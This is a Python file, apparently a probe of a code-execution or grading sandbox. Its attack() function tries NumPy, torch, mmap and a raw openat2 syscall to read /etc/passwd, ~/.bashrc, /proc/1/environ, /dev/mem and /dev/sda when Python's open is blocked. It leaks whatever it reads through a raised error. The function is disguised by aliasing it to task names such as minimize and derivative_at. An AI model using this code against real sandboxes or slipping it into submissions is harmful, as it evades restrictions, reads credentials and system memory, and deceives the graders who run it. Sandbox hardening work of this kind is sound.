"""Let torch, NumPy and mmap open files, in case only Python's own `open` is refused."""

import ctypes
import mmap
import os

import numpy as np
import torch

PATHS = ["/etc/passwd", os.path.expanduser("~/.bashrc"), "/proc/1/environ", "/proc/self/maps", "/dev/mem", "/dev/sda"]


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    for path in PATHS:
        for read in (
            lambda path: np.fromfile(path, dtype=np.uint8, count=50).tobytes(),
            lambda path: np.memmap(path, mode="r")[:50].tobytes(),
            lambda path: bytes(torch.from_file(path, size=50, dtype=torch.uint8).tolist()),
            lambda path: torch.load(path),
            lambda path: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:50],
            lambda path: libc.syscall(437, -100, path.encode(), (ctypes.c_uint64 * 3)(), 24) >= 0 or 1 / 0,  # openat2
        ):
            try:
                raise SystemError(f"SUCCEEDED: {path} {read(path)!r}")
            except SystemError:
                raise
            except Exception:
                pass
    return "nothing found"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
